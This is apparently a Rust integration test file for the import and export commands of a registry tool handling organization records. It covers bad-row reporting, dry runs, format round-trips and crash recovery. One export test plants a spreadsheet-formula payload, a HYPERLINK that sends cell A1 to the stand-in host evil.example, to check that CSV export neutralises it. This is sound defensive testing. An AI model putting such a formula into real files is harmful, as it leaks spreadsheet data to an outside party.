//! `gongyi import orgs` and `gongyi export orgs`.

use crate::support::{Env, orgs, text, write};
use gongyi_interchange::Format;

/// A registrar's CSV with three good rows and two bad ones (lines 3 and 5).
fn mixed_csv(env: &Env) -> (std::path::PathBuf, Vec<gongyi_types::Organization>) {
    let good = orgs(3);
    let path = env.dir.join("mixed.csv");
    write(&path, &good, Format::Csv);
    let text = std::fs::read_to_string(&path).unwrap();
    let mut lines: Vec<String> = text.lines().map(str::to_string).collect();
    // Line 3: the code's last character changed. Line 5: an impossible founding date.
    let bad1 = lines[1]
        .replacen(
            good[0].uscc.as_str(),
            &format!("{}Z", &good[0].uscc.as_str()[..17]),
            1,
        )
        .replace(&good[0].name, "坏行一协会");
    let founded = good[1].founded.to_string();
    let mut bad2 = lines[2].replace(&founded, "2021-02-30");
    bad2 = bad2.replacen(good[1].uscc.as_str(), "52110105MJ0000A1XX", 1);
    lines.insert(2, bad1);
    lines.insert(4, bad2);
    std::fs::write(&path, lines.join("\n") + "\n").unwrap();
    (path, good)
}

#[tokio::test]
async fn good_rows_go_in_bad_rows_are_reported_and_reimport_changes_nothing() {
    let env = Env::new().await;
    let (path, good) = mixed_csv(&env);
    let file = path.display().to_string();
    let o = env.run(&[
        "import",
        "orgs",
        &file,
        "--report",
        &env.dir.join("bad.csv").display().to_string(),
    ]);
    let (out, err) = text(&o);
    assert!(
        !o.status.success(),
        "bad rows make the exit status non-zero"
    );
    assert!(
        err.contains(&format!("{file}:3: 列“统一社会信用代码”")),
        "{err}"
    );
    assert!(err.contains("第18位") || err.contains("字符"), "{err}");
    assert!(
        err.contains(&format!("{file}:5: 列“成立登记日期”")),
        "{err}"
    );
    assert!(
        out.contains("有效 3 行（新增 3，更新 0，未变化 0），错误 2 行"),
        "{out}"
    );
    for g in &good {
        assert_eq!(
            env.db.store.org(g.uscc.as_str()).await.unwrap().as_ref(),
            Some(g)
        );
    }
    assert_eq!(
        env.db.store.org_count().await.unwrap(),
        3,
        "nothing else was stored"
    );
    let report = std::fs::read_to_string(env.dir.join("bad.csv")).unwrap();
    assert!(report.contains("\n3,") && report.contains("\n5,"));

    let audits = env.db.store.audit_count().await.unwrap();
    let o = env.run(&["import", "orgs", &file]);
    assert!(text(&o).0.contains("新增 0，更新 0，未变化 3"));
    assert_eq!(
        env.db.store.audit_count().await.unwrap(),
        audits,
        "re-import wrote nothing"
    );
    env.finish().await;
}

#[tokio::test]
async fn all_or_nothing_and_dry_run_store_nothing() {
    let env = Env::new().await;
    let (path, _) = mixed_csv(&env);
    let file = path.display().to_string();
    for flag in ["--all-or-nothing", "--dry-run"] {
        let o = env.run(&["import", "orgs", &file, flag]);
        assert!(!o.status.success());
        assert!(text(&o).1.contains(":3: "), "{flag}");
        assert_eq!(env.db.store.org_count().await.unwrap(), 0, "{flag}");
    }
    let clean = env.dir.join("clean.xlsx");
    write(&clean, &orgs(5), Format::Xlsx);
    let o = env.run(&["import", "orgs", &clean.display().to_string(), "--dry-run"]);
    assert!(o.status.success());
    assert!(text(&o).0.contains("5 行有效"));
    assert_eq!(env.db.store.org_count().await.unwrap(), 0);
    let o = env.run(&[
        "import",
        "orgs",
        &env.dir.join("missing.csv").display().to_string(),
    ]);
    assert!(!o.status.success());
    assert!(text(&o).1.contains("missing.csv"));
    env.finish().await;
}

#[tokio::test]
async fn export_round_trips_through_import() {
    let env = Env::new().await;
    let mut src = orgs(120);
    // A value a spreadsheet would run as a formula (OWASP CSV injection): exported as text
    // (a leading '), imported back unchanged.
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"详情\")";
    src[7].address = evil.to_string();
    let path = env.dir.join("src.jsonl");
    write(&path, &src, Format::Jsonl);
    assert!(
        env.run(&["import", "orgs", &path.display().to_string()])
            .status
            .success()
    );
    for (fmt, name) in [
        ("csv", "out.csv"),
        ("xlsx", "out.xlsx"),
        ("jsonl", "out.jsonl"),
    ] {
        let out = env.dir.join(name).display().to_string();
        let o = env.run(&["export", "orgs", "--format", fmt, "-o", &out]);
        assert!(o.status.success(), "{:?}", text(&o));
        assert!(text(&o).0.contains("已导出 120 家"));
        if fmt == "csv" {
            let csv = std::fs::read_to_string(&out).unwrap();
            assert!(
                !csv.contains(",=HYPERLINK") && csv.contains("'=HYPERLINK"),
                "{fmt}"
            );
        }
        // Importing the export into the same database changes nothing.
        let o = env.run(&["import", "orgs", &out]);
        assert!(
            text(&o).0.contains("新增 0，更新 0，未变化 120"),
            "{fmt}: {:?}",
            text(&o)
        );
    }
    env.finish().await;
}

#[tokio::test]
async fn kill_during_import_keeps_whole_batches_only() {
    let env = Env::new().await;
    let src = orgs(6000);
    let path = env.dir.join("big.csv");
    write(&path, &src, Format::Csv);
    let mut child = env
        .cmd()
        .args([
            "import",
            "orgs",
            &path.display().to_string(),
            "--batch",
            "100",
        ])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    // Wait until some batches are in, then kill -9.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(120);
    loop {
        let n = env.db.store.org_count().await.unwrap_or(0);
        if n >= 300 || std::time::Instant::now() > deadline {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    child.kill().unwrap(); // SIGKILL
    child.wait().unwrap();
    let n = env.db.store.org_count().await.unwrap();
    assert!(n > 0, "some batches were committed");
    assert_eq!(n % 100, 0, "only whole batches: {n}");
    // Every stored row is exactly a source row (no partial rows), and its audit row exists.
    let stored = env.db.store.orgs_after(None, 10_000).await.unwrap();
    let by_code: std::collections::HashMap<_, _> =
        src.iter().map(|o| (o.uscc.to_string(), o)).collect();
    for o in &stored {
        assert_eq!(by_code.get(o.uscc.as_str()).copied(), Some(o));
    }
    assert_eq!(env.db.store.audit_count().await.unwrap(), n);
    // The index commits at the end: the import left its marker, which tells `serve` to rebuild.
    let marker = env.dir.join("index").join("pending-writes");
    let left = std::fs::read_to_string(&marker).unwrap();
    assert!(left.starts_with("import "), "{left}");
    let (mut server, base) = crate::support::serve_logged(&env, &[]);
    let printed = std::fs::read_to_string(env.dir.join("serve-stdout.txt")).unwrap();
    assert!(printed.contains("中断"), "{printed}");
    let stored = &stored[stored.len() - 1];
    let body: serde_json::Value = reqwest::get(format!("{base}/api/v1/orgs?q={}", stored.uscc))
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(body["total"], 1, "{body}");
    server.kill().unwrap();
    server.wait().unwrap();
    // The server rebuilt the index: the import's marker is gone (the credit job writes none:
    // it re-indexes nothing).
    assert!(!marker.exists());
    // Running the import again completes it.
    let o = env.run(&["import", "orgs", &path.display().to_string()]);
    assert!(o.status.success(), "{:?}", text(&o));
    assert_eq!(env.db.store.org_count().await.unwrap(), 6000);
    assert!(!marker.exists());
    env.finish().await;
}

#[tokio::test]
async fn kill_during_an_all_or_nothing_import_leaves_nothing_of_it() {
    let env = Env::new().await;
    let src = orgs(8000);
    let path = env.dir.join("whole.csv");
    write(&path, &src, Format::Csv);
    let mut child = env
        .cmd()
        .args([
            "import",
            "orgs",
            &path.display().to_string(),
            "--all-or-nothing",
            "--batch",
            "100",
        ])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    // The marker is written once the file validated and writing begins; kill -9 soon after.
    let marker = env.dir.join("index").join("pending-writes");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(120);
    while !marker.exists() && std::time::Instant::now() < deadline {
        tokio::time::sleep(std::time::Duration::from_millis(10)).await;
    }
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    child.kill().unwrap(); // SIGKILL
    child.wait().unwrap();
    // One transaction: all of the file or none of it, never some batches.
    let n = env.db.store.org_count().await.unwrap();
    assert!(n == 0 || n == src.len() as i64, "{n} rows of {}", src.len());
    assert_eq!(env.db.store.audit_count().await.unwrap(), n);
    env.finish().await;
}
